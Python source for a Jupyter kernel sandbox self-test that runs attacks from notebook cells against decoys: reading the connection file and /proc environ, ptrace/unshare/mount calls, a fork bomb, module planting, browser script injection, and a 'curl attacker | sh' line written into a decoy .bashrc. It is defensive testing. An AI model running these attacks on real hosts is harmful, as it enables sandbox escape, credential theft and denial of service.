"""``python -m jax_kernel selftest``: the attack battery, run from cells against this host's kernel.

A deployer's configuration (``jax_kernel_config.py``, the kernelspec, the host's kernel features)
decides what the sandbox can do, and ``%sandbox`` reports what the worker believes it applied.  The
self-test checks from outside instead: it starts the installed kernel as a frontend would, runs
each attack from a cell, and judges it by a decoy that only code outside the sandbox could change
(a file's bytes and metadata, a process, a loopback server's connection log, a marker a planted
module would write).  Deployers run it after every upgrade and on every new host; the exit status
is 0 only if every attack was contained (or allowed by a setting the deployer chose, named).

It runs in its own process (never in a kernel that runs user code), so ``%sandbox --selftest``
has the kernel start it and relay its table.
"""

from __future__ import annotations

import argparse
import os
import queue
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from traitlets import Unicode
from traitlets.config import Application

CONTAINED = "contained"
POLICY = "allowed by policy"
ESCAPED = "NOT contained"

SECRET_VAR = "JAX_KERNEL_SELFTEST_SECRET"
TIMEOUT = 120.0


@dataclass
class Outcome:
    """What one cell sent back: its reply and the IOPub messages under it."""

    reply: dict[str, Any]
    outputs: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    @property
    def stdout(self) -> str:
        return "".join(c["text"] for k, c in self.outputs if k == "stream" and c["name"] == "stdout")

    def error(self) -> str:
        if self.reply.get("status") == "ok":
            return ""
        return f"{self.reply.get('ename')}: {self.reply.get('evalue')}"


class _LoopbackDecoy:
    """A TCP server on the host's loopback that records who connects: a cell that reaches it
    reached every service there (another kernel's ports, a database, the Jupyter server)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


class Battery:
    """Decoys outside the sandbox, one kernel, and the attacks run against it."""

    def __init__(self, profile: str | None, kernel_name: str, out: Callable[[str], None] = print) -> None:
        self.profile = profile
        self.kernel_name = kernel_name
        self.out = out
        self.root = tempfile.mkdtemp(prefix="jax-kernel-selftest-", dir=self._decoy_base())
        self.notebooks = os.path.join(self.root, "notebooks")
        self.outside = os.path.join(self.root, "outside")
        os.mkdir(self.notebooks)
        os.mkdir(self.outside)
        self.decoy = os.path.join(self.outside, "decoy")
        with open(self.decoy, "w") as f:
            f.write("decoy\n")
        os.chmod(self.decoy, 0o600)
        os.utime(self.decoy, (1_000_000_000, 1_000_000_000))
        self.marker = os.path.join(self.outside, "planted-code-ran")
        self.dotfile = os.path.join(self.notebooks, ".bashrc")  # notebooks in a home
        with open(self.dotfile, "w") as f:
            f.write("# the user's own\n")
        self.secret = secrets.token_hex(16)
        self.loopback = _LoopbackDecoy()
        self.bystander = subprocess.Popen(["sleep", "3600"], stdin=subprocess.DEVNULL)
        self.km: Any = None
        self.log: Any = None
        self.kc: Any = None
        self.report: dict[str, Any] = {}
        self.output_limit: int | None = None

    @staticmethod
    def _decoy_base() -> str:
        # Not /tmp: a worker with a private /tmp would not see the decoys at all, which proves
        # nothing.  /var/tmp is visible to the worker and not writable by it.
        return "/var/tmp" if os.access("/var/tmp", os.W_OK) else tempfile.gettempdir()

    # --- the kernel -------------------------------------------------------------------
    def start(self) -> None:
        from jupyter_client.manager import KernelManager

        args = [f"--Sandbox.profile={self.profile}"] if self.profile else []
        self.km = KernelManager(kernel_name=self.kernel_name)
        env = {**os.environ, SECRET_VAR: self.secret}
        # The kernel's own log goes to a file (shown if it fails), not between the table's lines.
        self.log = open(os.path.join(self.root, "kernel.log"), "w")  # noqa: SIM115
        self.km.start_kernel(
            extra_arguments=args, env=env, cwd=self.notebooks, stdout=self.log, stderr=subprocess.STDOUT
        )
        self.kc = self.km.client()
        self.kc.start_channels()
        self.kc.wait_for_ready(timeout=TIMEOUT)
        self.run("1")
        msg_id = self.kc.kernel_info()
        while True:
            reply = self.kc.get_shell_msg(timeout=TIMEOUT)
            if reply["parent_header"].get("msg_id") == msg_id:
                self.report = reply["content"].get("sandbox") or {}
                self.output_limit = reply["content"].get("output_limit")
                break

    def run(self, code: str, timeout: float = TIMEOUT) -> Outcome:
        msg_id = self.kc.execute(code, allow_stdin=False)
        outcome = Outcome({})
        deadline = time.monotonic() + timeout
        while True:
            try:
                msg = self.kc.get_iopub_msg(timeout=0.1)
            except queue.Empty:
                if time.monotonic() > deadline:
                    raise TimeoutError(f"no answer within {timeout:g} s") from None
                continue
            if msg["parent_header"].get("msg_id") != msg_id:
                continue
            if msg["msg_type"] == "status":
                if msg["content"]["execution_state"] == "idle":
                    break
            elif msg["msg_type"] != "execute_input":
                outcome.outputs.append((msg["msg_type"], msg["content"]))
        while True:
            reply = self.kc.get_shell_msg(timeout=timeout)
            if reply["parent_header"].get("msg_id") == msg_id:
                outcome.reply = reply["content"]
                return outcome

    def next_cell_works(self) -> bool:
        return self.run("6 * 7").reply.get("status") == "ok"

    def kernel_log(self) -> str:
        try:
            with open(os.path.join(self.root, "kernel.log")) as f:
                return f.read()
        except OSError:
            return ""

    def close(self) -> None:
        if self.kc is not None:
            self.kc.stop_channels()
        if self.km is not None and self.km.has_kernel:
            self.km.shutdown_kernel(now=True)
        self.loopback.close()
        self.bystander.kill()
        self.bystander.wait()
        if self.log is not None:
            self.log.close()
        shutil.rmtree(self.root, ignore_errors=True)

    # --- the attacks ------------------------------------------------------------------
    def attacks(self) -> list[tuple[str, Callable[[], tuple[str, str]]]]:
        return [
            ("read the kernel's connection file (its signing key)", self.connection_file),
            ("read the kernel's environment (tokens, secrets)", self.environment),
            ("write a file outside the notebook folder", self.write_outside),
            ("change a host file's ACL, xattrs, times or mode", self.metadata),
            ("plant a symlink or FIFO where the Jupyter server reads", self.special_files),
            ("rewrite an existing dot-file (~/.bashrc)", self.dot_file),
            ("plant a module the next kernel process imports", self.planted_module),
            ("leave the sandbox (unshare, mount, ptrace)", self.namespaces),
            ("signal a process outside the sandbox", self.signal),
            ("reach a service on the host's loopback", self.loopback_service),
            ("fork until the host has no pids left", self.fork_bomb),
            ("flood the frontend past the output limit", self.flood),
            ("run a script in the user's browser session", self.active_output),
        ]

    def connection_file(self) -> tuple[str, str]:
        res = self.run(f"print(len(open({self.km.connection_file!r}).read()))")
        if res.reply.get("status") == "ok":
            return ESCAPED, f"read {res.stdout.strip()} characters"
        return CONTAINED, res.error()

    def environment(self) -> tuple[str, str]:
        kernel_pid = self.km.provisioner.pid if self.km.provisioner else os.getpid()
        res = self.run(
            f"import os\nseen = [os.environ.get({SECRET_VAR!r}, '')]\n"
            f"for pid in (os.getppid(), {kernel_pid}):\n"
            "    try:\n"
            "        seen.append(open(f'/proc/{pid}/environ').read())\n"
            "    except OSError as e:\n"
            "        seen.append(type(e).__name__)\n"
            "print(seen)"
        )
        if self.secret in res.stdout:
            return ESCAPED, "the kernel's secret variable reached the cell"
        return CONTAINED, f"not in the worker's environment; /proc/PID/environ: {res.stdout.strip()[-60:]}"

    def write_outside(self) -> tuple[str, str]:
        res = self.run(f"open({self.decoy!r}, 'a').write('attacker\\n')")
        with open(self.decoy) as f:
            changed = f.read() != "decoy\n"
        return (
            (ESCAPED, "the decoy changed") if changed else (CONTAINED, res.error() or "no error, no change")
        )

    def metadata(self) -> tuple[str, str]:
        acl = b"\x02\x00\x00\x00" + b"".join(
            tag.to_bytes(2, "little") + perm.to_bytes(2, "little") + (0xFFFFFFFF).to_bytes(4, "little")
            for tag, perm in ((1, 6), (4, 6), (32, 6))
        )
        res = self.run(
            "import os\nout = {}\n"
            f"p = {self.decoy!r}\n"
            f"for name, call in (('acl', lambda: os.setxattr(p, 'system.posix_acl_access', {acl!r})),\n"
            "                   ('xattr', lambda: os.setxattr(p, 'user.note', b'x')),\n"
            "                   ('utime', lambda: os.utime(p, (0, 0))), ('chmod', lambda: os.chmod(p, 0o666))):\n"
            "    try:\n"
            "        call(); out[name] = 'no error'\n"
            "    except OSError as e:\n"
            "        out[name] = os.strerror(e.errno)\n"
            "print(out)"
        )
        info = os.stat(self.decoy)
        changed = []
        if stat.S_IMODE(info.st_mode) != 0o600:
            changed.append(f"mode {oct(stat.S_IMODE(info.st_mode))}")
        if int(info.st_mtime) != 1_000_000_000:
            changed.append("mtime")
        try:
            if os.listxattr(self.decoy):
                changed.append("xattrs")
        except OSError:
            pass
        if changed:
            return ESCAPED, "the decoy's " + ", ".join(changed) + " changed"
        return CONTAINED, res.stdout.strip() or res.error()

    def special_files(self) -> tuple[str, str]:
        link, fifo = (os.path.join(self.notebooks, n) for n in ("link.ipynb", "fifo.ipynb"))
        res = self.run(
            "import os\nout = []\n"
            f"for call in (lambda: os.symlink({self.decoy!r}, {link!r}), lambda: os.mkfifo({fifo!r})):\n"
            "    try:\n"
            "        call(); out.append('made')\n"
            "    except OSError as e:\n"
            "        out.append(os.strerror(e.errno))\n"
            "print(out)"
        )
        made = [os.path.basename(p) for p in (link, fifo) if os.path.lexists(p)]
        if made:
            return ESCAPED, f"{made} in the notebook folder"
        return CONTAINED, res.stdout.strip()

    def dot_file(self) -> tuple[str, str]:
        res = self.run("open('.bashrc', 'a').write('curl attacker | sh\\n')")
        with open(self.dotfile) as f:
            changed = f.read() != "# the user's own\n"
        return (ESCAPED, "the dot-file changed") if changed else (CONTAINED, res.error() or "no change")

    def planted_module(self) -> tuple[str, str]:
        plant = f"open({self.marker!r}, 'w').write('ran')\n"
        res = self.run(
            "import os\nplanted = []\n"
            "for name in ('sitecustomize.py', 'json.py', 'jax_kernel.py', 'zmq.py'):\n"
            "    try:\n"
            f"        open(name, 'w').write({plant!r}); planted.append(name)\n"
            "    except OSError:\n"
            "        pass\n"
            "print(planted)"
        )
        self.km.restart_kernel(now=True)
        self.kc.wait_for_ready(timeout=TIMEOUT)
        works = self.next_cell_works()
        if os.path.exists(self.marker):
            return ESCAPED, "a planted module ran outside the sandbox after a restart"
        return CONTAINED, f"planted {res.stdout.strip()}; a restart ran none of them (next cell ok: {works})"

    def signal(self) -> tuple[str, str]:
        res = self.run(f"import os, signal\nos.kill({self.bystander.pid}, signal.SIGKILL)")
        time.sleep(0.2)
        if self.bystander.poll() is not None:
            return ESCAPED, "the bystander process was killed"
        return CONTAINED, res.error() or "no error, bystander alive"

    def loopback_service(self) -> tuple[str, str]:
        res = self.run(
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {self.loopback.port}), timeout=3).close(); print('connected')\n"
            "except OSError as e:\n"
            "    print(type(e).__name__)"
        )
        time.sleep(0.3)
        if self.loopback.connections:
            if "Sandbox.egress = 'host'" in str(self.report.get("unavailable", {}).get("network", "")):
                return POLICY, "the host's network by the deployer's choice (Sandbox.egress = 'host')"
            if self.report.get("profile") == "off":
                return POLICY, "the sandbox is off (Sandbox.profile = 'off')"
            return ESCAPED, "the decoy server on 127.0.0.1 saw a connection"
        return CONTAINED, f"the decoy server saw nothing ({res.stdout.strip() or res.error()})"

    def namespaces(self) -> tuple[str, str]:
        # In a child of the worker, so that a call that works leaves the worker as it was; the
        # ptrace target is the bystander (outside), never the kernel.
        res = self.run(
            "import ctypes, json, os\nr, w = os.pipe()\n"
            "if os.fork() == 0:\n"
            "    libc = ctypes.CDLL(None, use_errno=True)\n"
            "    out = {}\n"
            "    for name, call in (('ptrace', lambda: libc.ptrace(16, BYSTANDER, None, None)),\n"
            "                       ('unshare', lambda: libc.unshare(0x10000000 | 0x20000)),\n"
            "                       ('mount', lambda: libc.mount(b'none', b'/mnt', b'tmpfs', 0, None))):\n"
            "        out[name] = 'done' if call() == 0 else os.strerror(ctypes.get_errno())\n"
            "    os.write(w, json.dumps(out).encode()); os._exit(0)\n"
            "os.close(w); print(os.read(r, 4096).decode()); os.wait()".replace(
                "BYSTANDER", str(self.bystander.pid)
            )
        )
        traced = False
        try:
            with open(f"/proc/{self.bystander.pid}/status") as f:
                traced = any(line.startswith("TracerPid:") and line.split()[1] != "0" for line in f)
        except OSError:
            pass
        if traced or "done" in res.stdout:
            return ESCAPED, res.stdout.strip() + (" (the bystander was traced)" if traced else "")
        return CONTAINED, res.stdout.strip() or res.error()

    def fork_bomb(self) -> tuple[str, str]:
        if self.report.get("profile", "off") == "off":
            return ESCAPED, "not tried: with the sandbox off nothing limits it (Sandbox.profile = 'off')"
        res = self.run(
            "import os\nr, w = os.pipe(); n = 0; err = None\n"
            "try:\n"
            "    while n < 20000:\n"
            "        if os.fork() == 0:\n"
            "            os.close(w); os.read(r, 1); os._exit(0)\n"
            "        n += 1\n"
            "except OSError as e:\n"
            "    err = type(e).__name__\n"
            "os.close(w)\n"
            "for _ in range(n):\n"
            "    os.wait()\n"
            "print(n, err)",
            timeout=300,
        )
        works = self.next_cell_works()
        parts = res.stdout.split()
        if len(parts) == 2 and parts[1] == "None":
            return ESCAPED, f"{parts[0]} processes forked with no limit"
        if not works:
            return ESCAPED, "contained, but the next cell fails"
        return CONTAINED, f"stopped after {parts[0] if parts else '?'} processes; the next cell runs"

    def flood(self) -> tuple[str, str]:
        limit = self.output_limit
        if not isinstance(limit, int) or limit <= 0:
            return POLICY, "no limit on a cell's output (JaxKernel.output_limit)"
        chunks = min(3 * limit // 1_000_000 + 1, 300)
        res = self.run(
            "from IPython.display import display\nchunk = 'x' * 1_000_000\n"
            f"for _ in range({chunks}):\n"
            "    display({'text/plain': chunk}, raw=True)",
            timeout=300,
        )
        got = sum(
            len(c.get("data", {}).get("text/plain", "")) for k, c in res.outputs if k == "display_data"
        ) + sum(len(c.get("text", "")) for k, c in res.outputs if k == "stream")
        works = self.next_cell_works()
        sent = chunks * 1_000_000
        if got > limit + 65536 or not works:
            return ESCAPED, f"{got:,} of {sent:,} characters reached the frontend (limit {limit:,})"
        return (
            CONTAINED,
            f"{got:,} of {sent:,} characters reached the frontend (limit {limit:,}); next cell runs",
        )

    def active_output(self) -> tuple[str, str]:
        res = self.run(
            "from IPython.display import HTML, Javascript, display\n"
            'display(HTML(\'<b>hi</b><script>fetch("/api/terminals", {method: "POST"})</script>\'))\n'
            'display(Javascript(\'fetch("/api/terminals", {method: "POST"})\'))'
        )
        sent = [c.get("data", {}) for k, c in res.outputs if k == "display_data"]
        scripts = [
            m
            for d in sent
            for m, v in d.items()
            if m == "application/javascript" or "<script" in str(v).lower()
        ]
        if not scripts:
            return CONTAINED, f"{len(sent)} outputs reached the frontend without scripts"
        if self.report.get("profile") == "off" or "active_outputs" not in self.report.get("active", {}):
            return POLICY, "scripts reach the browser (Sandbox.active_outputs = 'allow')"
        return ESCAPED, f"scripts reached the frontend: {scripts}"

    # --- running them -----------------------------------------------------------------
    def run_all(self) -> list[tuple[str, str, str]]:
        rows = []
        for name, attack in self.attacks():
            try:
                verdict, evidence = attack()
            except Exception as e:  # noqa: BLE001 - the battery itself failed: not a pass
                verdict, evidence = ESCAPED, f"could not be judged: {type(e).__name__}: {e}"
            if verdict != ESCAPED and not self.km.is_alive():
                verdict, evidence = ESCAPED, "the kernel died"
            rows.append((name, verdict, " ".join(evidence.split())[:110]))
            self.out(f"  {verdict:<18} {name}")
        return rows


def table(rows: list[tuple[str, str, str]]) -> str:
    width = max(len(r[0]) for r in rows)
    lines = [f"{'attack':<{width}}  {'result':<18} evidence", f"{'-' * width}  {'-' * 18} {'-' * 8}"]
    lines += [f"{a:<{width}}  {v:<18} {e}" for a, v, e in rows]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m jax_kernel selftest",
        description="Start the installed jax kernel as configured on this host, run the attack battery "
        "from its cells, and print whether each attack was contained.",
    )
    parser.add_argument("--profile", choices=["off", "standard", "strict"], help="override Sandbox.profile")
    parser.add_argument("--kernel", default="jax", help="kernelspec name (default: jax)")
    opts = parser.parse_args(argv)

    def say(text: str) -> None:
        print(text, flush=True)

    def stop(signum: int, _frame: Any) -> None:
        raise SystemExit(3)  # through the finally below: the kernel, bystander and decoys go too

    signal.signal(signal.SIGTERM, stop)

    battery = Battery(opts.profile, opts.kernel, out=say)
    try:
        say(f"jax-kernel self-test: kernel {opts.kernel!r}, profile {opts.profile or 'as configured'}")
        try:
            battery.start()
        except Exception as e:  # noqa: BLE001 - any failure to start is reported the same way
            say(f"error: the kernel did not start ({type(e).__name__}: {e}); check `jupyter kernelspec list`")
            say(battery.kernel_log()[-2000:])
            return 2
        say(
            f"sandbox: {battery.report.get('profile', '?')} profile; running {len(battery.attacks())} attacks"
        )
        rows = battery.run_all()
    finally:
        battery.close()
    say("")
    say(table(rows))
    escaped = [r for r in rows if r[1] == ESCAPED]
    say("")
    say(
        f"{len(rows) - len(escaped)} of {len(rows)} contained or allowed by policy"
        + (f"; NOT contained: {', '.join(r[0] for r in escaped)}" if escaped else "")
    )
    return 1 if escaped else 0


class SelfTestApp(Application):
    """``python -m jax_kernel selftest [--profile P] [--kernel NAME]`` (a subcommand of the app)."""

    name = Unicode("jax-kernel-selftest")
    description = Unicode("Run the sandbox's attack battery against the installed kernel.")

    def initialize(self, argv: list[str] | None = None) -> None:
        self.argv = sys.argv[1:] if argv is None else argv

    def start(self) -> None:
        self.exit(main(self.argv))


if __name__ == "__main__":
    sys.exit(main())
